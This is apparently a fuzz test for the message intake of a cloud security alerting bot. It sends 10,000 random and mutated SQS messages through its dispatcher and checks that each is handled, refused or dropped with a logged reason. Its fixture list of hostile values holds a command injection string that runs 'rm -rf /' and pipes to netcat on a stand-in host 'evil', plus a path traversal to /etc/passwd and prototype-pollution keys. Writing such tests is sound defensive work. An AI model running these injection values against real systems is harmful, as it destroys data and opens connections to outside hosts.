/**
 * 10,000 random and mutated SQS messages through the intake's one entry point (dispatchMessage):
 * no crash, and each message is handled, refused or dropped with a reason, or left for a retry with
 * its reason recorded for the DLQ (`sentinel dlq list`).
 *
 * Real: the handlers, the parsing and authentication, the bot's file stores (incidents, approvals,
 * audit, dead letters) in a temporary data directory, the outbox recording what it would post (its
 * sender is not started: nothing leaves the process), the playbook config and the action registry.
 * AWS is as in embedded mode without AWS: only S3, on the local object store; actions that need
 * another client answer with their plan (no network). The playbook engine is an in-memory recorder
 * (what is tested is the intake, and 10,000 messages must run in seconds): starts are recorded by
 * execution name, and a task token is live only if this engine issued it (`live-…`), as Step
 * Functions answers for tokens it does not know.
 *
 * Messages: valid ones of every kind (Falco JSON and Fluent Bit lines on each route, GuardDuty
 * findings, tasks, approval requests, reports, notify alerts), the same with random mutations
 * (fields removed, replaced by hostile or oversized values, types changed, text truncated or
 * corrupted), and arbitrary JSON or text; on the right queue or the wrong one, from the state
 * machines' role or anyone else, and some delivered again under the same message id.
 */
import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DiscordPort } from '../../src/handlers/ports/discordPort.js';
import type { HandlerContext } from '../../src/handlers/context.js';
import { dispatchMessage } from '../../src/handlers/dispatchMessage.js';
import type { IntakeMessage } from '../../src/handlers/ports/intake.js';
import { loadPlaybookConfig } from '../../src/pipeline/triage/playbookConfig.js';
import { triageEvent } from '../../src/pipeline/triage/triageEvent.js';
import { falcoJson, fluentBitLine, guardDutyEvent, kv, reverseShellLine } from '../helpers/events.js';
import { createIntakeContext, INTAKE_ROLE_ID, type IntakeContext, type IntakeLogLine } from '../helpers/intakeContext.js';

const RUNS = 10_000;
const ROLE_ID = INTAKE_ROLE_ID;
const NODE = 'ip-10-0-12-34.ap-northeast-2.compute.internal';

/** Discord is never called: the outbox's sender is not started. */
const unreachableDiscord: DiscordPort = {
  post: () => Promise.reject(new Error('no Discord in this test')),
  edit: () => Promise.reject(new Error('no Discord in this test')),
  thread: () => Promise.reject(new Error('no Discord in this test')),
  fetchEmbeds: () => Promise.reject(new Error('no Discord in this test')),
  isReady: () => false,
};

let intake: IntakeContext;
let ctx: HandlerContext;
let lines: IntakeLogLine[];
let answered: IntakeContext['answered'];

beforeAll(async () => {
  intake = await createIntakeContext({ port: unreachableDiscord });
  ({ ctx, lines, answered } = intake);
});

afterAll(async () => {
  await intake?.close();
});

// ---- messages --------------------------------------------------------------------------------

const HOSTILE = [
  '@everyone',
  '<@&111111111111111111>',
  '**bold** ||spoiler|| [click](https://evil.example)',
  '```\nbreak out\n```',
  '$(rm -rf /); `id` | nc evil 4444 &',
  '\u0000\u0007\u001b[31m\u202e\u200b',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  '\ud800',
  '%s%n%x',
  '',
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 5000, maxLength: 120_000, unit: fc.constantFrom('a', '@', '`', '*', '\n', 'é', '🔥') }) },
);

const junk: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.constantFrom(null, true, false, 1e308, -0, Number.MAX_SAFE_INTEGER + 2),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
);

const liveToken = () => intake.liveToken();

const triaged = (event: unknown) => {
  const r = triageEvent(event, loadPlaybookConfig(undefined));
  if (!r.ok) throw new Error(r.error);
  return r.result as unknown as Record<string, unknown>;
};

const EVENTS = [
  () => falcoJson({ rule: 'Read sensitive file untrusted', priority: 'Warning', output: 'Sensitive file opened for reading by non-trusted program (file=/etc/shadow)', fields: { 'k8s.pod.name': 'web-1', 'k8s.ns.name': 'dvwa', 'proc.cmdline': 'cat /etc/shadow' }, hostname: NODE }),
  () => fluentBitLine(reverseShellLine({ ip: '203.0.113.9' }), { host: NODE }),
  () => fluentBitLine(`ARTIFACT_EXEC ${kv({ reason: 'exec_from_upload_dir', exepath: '/var/www/html/uploads/x', cmdline: 'x -c id', container: 'dvwa', container_id: '3f2a9c1b7d4e', pod: 'web-0', ns: 'dvwa', node: NODE, user: 'www-data' })}`, { host: NODE }),
  () => falcoJson({ rule: 'ARTIFACT_WRITE', priority: 'Warning', output: 'ARTIFACT_WRITE reason=upload_write', fields: { 'fd.name': '/var/www/html/uploads/a.php', 'k8s.pod.name': 'dvwa-0', 'k8s.ns.name': 'dvwa', 'container.name': 'dvwa' }, hostname: NODE }),
  () => falcoJson({ rule: 'Test rule', priority: 'Debug', output: 'This is a test from falcosidekick', fields: {}, hostname: NODE }),
  () => guardDutyEvent({ id: randomUUID().replace(/-/g, ''), resourceType: 'S3Bucket' }),
  () => guardDutyEvent({ id: randomUUID().replace(/-/g, ''), instanceId: 'i-0123456789abcdef0' }),
];

const CONTROL = [
  (): Record<string, unknown> => ({ kind: 'task', taskToken: liveToken(), action: 'no-such-action', input: {}, incidentId: `inc-${randomUUID().slice(0, 8)}`, executionName: 'x' }),
  (): Record<string, unknown> => ({ kind: 'task', taskToken: `dead-${randomUUID()}`, action: 'deny-egress', input: { ip: '203.0.113.9', node: NODE }, incidentId: `inc-${randomUUID().slice(0, 8)}`, enteredAt: new Date().toISOString(), timeoutSeconds: 900 }),
  (): Record<string, unknown> => ({ kind: 'task', taskToken: liveToken(), action: 'record-incident', input: { nonsense: true }, incidentId: `inc-${randomUUID().slice(0, 8)}`, dryRun: true }),
  (): Record<string, unknown> => ({
    kind: 'approval-request',
    taskToken: liveToken(),
    incident: { incidentId: `inc-${randomUUID().slice(0, 8)}`, executionName: 'exec-1', triage: triaged(EVENTS[2]!()) },
    proposedAction: { action: 'isolate-node', input: { node: NODE }, summary: 'isolate the node' },
    timeoutSeconds: 3600,
    requestedAt: new Date().toISOString(),
  }),
  (): Record<string, unknown> => ({
    kind: 'report',
    executionName: 'exec-r',
    incident: { incidentId: `inc-${randomUUID().slice(0, 8)}`, executionName: 'exec-r', startTime: new Date().toISOString(), route: 'record', triage: triaged(EVENTS[0]!()), results: {} },
  }),
  (): Record<string, unknown> => ({ kind: 'notify', incident: { incidentId: `inc-${randomUUID().slice(0, 8)}`, triage: triaged(EVENTS[5]!()) } }),
];

type Path = (string | number)[];

function paths(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (value && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      const p = [...prefix, Array.isArray(value) ? Number(k) : k];
      out.push(p);
      if (out.length < 200) paths(v, p, out);
    }
  }
  return out;
}

/** One random change: a field removed, replaced (hostile text, another type, huge), or added. */
function mutate(value: unknown, choice: { pick: number; op: number; replacement: unknown; key: string }): unknown {
  const copy = JSON.parse(JSON.stringify(value)) as unknown;
  const all = paths(copy);
  if (all.length === 0) return choice.replacement;
  const path = all[choice.pick % all.length]!;
  let parent = copy as Record<string | number, unknown>;
  for (const p of path.slice(0, -1)) parent = parent[p] as Record<string | number, unknown>;
  const last = path[path.length - 1]!;
  switch (choice.op % 4) {
    case 0:
      if (Array.isArray(parent)) parent.splice(Number(last), 1);
      else delete parent[last];
      break;
    case 1:
      parent[last] = choice.replacement;
      break;
    case 2:
      if (!Array.isArray(parent)) parent[choice.key] = choice.replacement;
      break;
    default:
      parent[last] = typeof parent[last] === 'string' ? `${String(parent[last])}${typeof choice.replacement === 'string' ? choice.replacement : JSON.stringify(choice.replacement)}` : [parent[last]];
  }
  return copy;
}

const mutation = fc.record({ pick: fc.nat(), op: fc.nat(), replacement: junk, key: fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('kind', '__proto__', 'taskToken', 'constructor')) });

/** A body as text: JSON, sometimes cut short or with a byte changed. */
const asText = (value: unknown, damage: { cut?: number | undefined; flip?: number | undefined }) => {
  let s = JSON.stringify(value) ?? 'null';
  if (damage.cut !== undefined) s = s.slice(0, damage.cut % (s.length + 1));
  if (damage.flip !== undefined && s.length) {
    const i = damage.flip % s.length;
    s = `${s.slice(0, i)}${String.fromCharCode((s.charCodeAt(i) + 1) % 0x10000)}${s.slice(i + 1)}`;
  }
  return s;
};

const damage: fc.Arbitrary<{ cut?: number; flip?: number }> = fc.oneof(
  { weight: 8, arbitrary: fc.constant({}) },
  { weight: 1, arbitrary: fc.nat().map((cut) => ({ cut })) },
  { weight: 1, arbitrary: fc.nat().map((flip) => ({ flip })) },
);

const body: fc.Arbitrary<{ text: string | undefined; control: boolean }> = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(fc.nat(EVENTS.length - 1), fc.array(mutation, { maxLength: 3 }), damage).map(([i, ms, d]) => ({ text: asText(ms.reduce<unknown>((v, m) => mutate(v, m), EVENTS[i]!()), d), control: false })) },
  { weight: 3, arbitrary: fc.tuple(fc.nat(CONTROL.length - 1), fc.array(mutation, { maxLength: 3 }), damage).map(([i, ms, d]) => ({ text: asText(ms.reduce<unknown>((v, m) => mutate(v, m), CONTROL[i]!()), d), control: true })) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => ({ text: JSON.stringify(v), control: false })) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constantFrom('task', 'approval-request', 'report', 'notify', 'event', 'Task', '', 'constructor', 'toString', '__proto__'), rest: fc.dictionary(fc.string({ maxLength: 10 }), junk, { maxKeys: 6 }) }).map((r) => ({ text: JSON.stringify({ ...r.rest, kind: r.kind }), control: true })) },
  { weight: 1, arbitrary: fc.oneof(hostileString, fc.constant(undefined), fc.constant('   ')).map((t) => ({ text: t, control: false })) },
);

const previous: IntakeMessage[] = [];

const message: fc.Arbitrary<IntakeMessage> = fc
  .record({
    body,
    wrongQueue: fc.nat(9).map((n) => n === 0),
    sender: fc.nat(9).map((n) => (n < 8 ? 'role' : n === 8 ? 'other' : 'none')),
    redeliver: fc.nat(19),
    receiveCount: fc.integer({ min: 1, max: 6 }),
    id: fc.uuid(),
  })
  .map(({ body: b, wrongQueue, sender, redeliver, receiveCount, id }) => {
    const again = redeliver === 0 && previous.length > 0 ? previous[previous.length - 1 - (receiveCount % previous.length)]! : undefined;
    if (again) return { ...again, receiveCount: again.receiveCount + 1 };
    const source: IntakeMessage['source'] = b.control !== wrongQueue ? 'control' : 'intake';
    const senderId = sender === 'role' ? `${ROLE_ID}:exec` : sender === 'other' ? 'AIDAOTHERSENDER' : undefined;
    return { id, body: b.text, receiveCount, source, transport: 'sqs' as const, ...(senderId ? { senderId } : {}), sentAt: new Date() };
  });

const KINDS = ['task', 'approval-request', 'report', 'notify'];

/** The `kind` a body claims, when it is a JSON object with a string kind. */
function kindOf(text: string | undefined): string | undefined {
  try {
    const v = JSON.parse(text ?? '') as unknown;
    return v && typeof v === 'object' && !Array.isArray(v) && typeof (v as { kind?: unknown }).kind === 'string' ? (v as { kind: string }).kind : undefined;
  } catch {
    return undefined;
  }
}

describe('the intake against random and mutated messages', () => {
  it('drops a message whose kind names a property every object has (constructor, toString, __proto__) as unknown, instead of retrying it into the DLQ', async () => {
    for (const kind of ['constructor', 'toString', 'hasOwnProperty', '__proto__']) {
      for (const source of ['intake', 'control'] as const) {
        const m: IntakeMessage = { id: randomUUID(), body: JSON.stringify({ kind }), receiveCount: 1, source, transport: 'sqs', senderId: `${ROLE_ID}:exec` };
        const from = lines.length;
        expect(await dispatchMessage(m, ctx), `kind ${kind} on the ${source} queue`).toBe('done');
        expect(lines.slice(from).find((l) => l.message === 'unreadable message dropped')?.reason).toBe(`unknown message kind ${JSON.stringify(kind)}`);
      }
    }
  });

  it('fails a step whose action names a property every object has (constructor, toString, __proto__) as an unknown action, instead of retrying it into the DLQ', async () => {
    for (const action of ['constructor', 'toString', 'hasOwnProperty', '__proto__']) {
      const taskToken = liveToken();
      const m: IntakeMessage = {
        id: randomUUID(),
        body: JSON.stringify({ kind: 'task', taskToken, action, input: {}, incidentId: 'inc-prototype-action' }),
        receiveCount: 1,
        source: 'control',
        transport: 'sqs',
        senderId: `${ROLE_ID}:exec`,
      };
      expect(await dispatchMessage(m, ctx), `action ${action}`).toBe('done');
      expect(answered.find((a) => a.token === taskToken), `action ${action}`).toEqual({ token: taskToken, ok: false, error: 'sentinel.UnknownAction' });
    }
  });

  it('a playbook message handled to the end and delivered again under its SQS message id is dropped; the same body sent as another message is handled (refused here: its token is answered)', async () => {
    const taskToken = liveToken();
    const body = JSON.stringify({ kind: 'task', taskToken, action: 'no-such-action', input: {}, incidentId: 'inc-redelivered' });
    const first: IntakeMessage = { id: randomUUID(), body, receiveCount: 1, source: 'control', transport: 'sqs', senderId: `${ROLE_ID}:exec` };
    expect(await dispatchMessage(first, ctx)).toBe('done');
    expect(answered.filter((a) => a.token === taskToken)).toEqual([{ token: taskToken, ok: false, error: 'sentinel.UnknownAction' }]);
    const from = lines.length;
    expect(await dispatchMessage({ ...first, receiveCount: 2 }, ctx)).toBe('done');
    expect(lines.slice(from).map((l) => l.message)).toEqual(['a playbook message already handled here, delivered again; dropped']);
    const again = lines.length;
    expect(await dispatchMessage({ ...first, id: randomUUID() }, ctx)).toBe('done');
    expect(lines.slice(again).find((l) => l.message === 'message refused')?.reason).toBe('the task token is not live (InvalidToken)');
    expect(answered.filter((a) => a.token === taskToken)).toHaveLength(1);
  });

  it(`${RUNS} messages: none crashes it; each is handled, or refused or dropped with its reason logged, or retried with its reason recorded for the DLQ`, { timeout: 600_000 }, async () => {
    const outcomes = { done: 0, retry: 0 };
    const retried = new Map<string, number>();
    await fc.assert(
      fc.asyncProperty(message, async (m) => {
        const from = lines.length;
        const outcome = await dispatchMessage(m, ctx);
        previous.push(m);
        if (previous.length > 50) previous.shift();
        expect(['done', 'retry']).toContain(outcome);
        outcomes[outcome] += 1;
        const logged = lines.slice(from);
        // Whatever was dropped, refused or failed says why.
        for (const l of logged.filter((x) => x.level === 'error' || /refused|dropped|will retry/.test(x.message))) {
          expect(typeof l.reason === 'string' && l.reason.length > 0, `${l.level} "${l.message}" without a reason`).toBe(true);
        }
        if (outcome === 'retry') {
          const record = await ctx.deadLetters!.get(m.id);
          expect(record?.reason, 'a retried message has its reason recorded').toMatch(/\S/);
          expect(record?.reason, 'the reason is the failure, not a placeholder').not.toMatch(/without logging an error/);
          const why = `${record!.kind}: ${record!.reason.slice(0, 120)}`;
          retried.set(why, (retried.get(why) ?? 0) + 1);
        }
        // A message refused unread, or unreadable, or of a kind sentinel does not know, is not retried.
        if (logged.some((l) => l.message === 'message refused' || l.message === 'unreadable message dropped')) expect(outcome).toBe('done');
        const kind = kindOf(m.body);
        if (kind !== undefined && !KINDS.includes(kind)) expect(outcome, `a message of kind ${JSON.stringify(kind)}`).toBe('done');
      }),
      { numRuns: RUNS, endOnFailure: true },
    );
    // The mix reached every kind of handling.
    const messages = new Set(lines.map((l) => l.message));
    for (const expected of ['unreadable message dropped', 'message refused', 'playbook started', 'approval request recorded; it is posted ahead of everything else waiting for the channel', 'event refused']) {
      expect(messages, expected).toContain(expected);
    }
    expect(answered.some((a) => a.error === 'sentinel.UnknownAction')).toBe(true);
    expect(outcomes.done).toBeGreaterThan(RUNS * 0.9);
    const byMessage = new Map<string, number>();
    for (const l of lines) byMessage.set(l.message, (byMessage.get(l.message) ?? 0) + 1);
    console.info(
      `random messages: ${outcomes.done} done, ${outcomes.retry} retried (reason recorded); ${intake.started.size} playbooks started; ${answered.length} tasks answered\n` +
        `log lines: ${JSON.stringify(Object.fromEntries([...byMessage].sort((a, b) => b[1] - a[1]).slice(0, 15)))}\n` +
        `retried: ${JSON.stringify(Object.fromEntries(retried))}`,
    );
  });
});
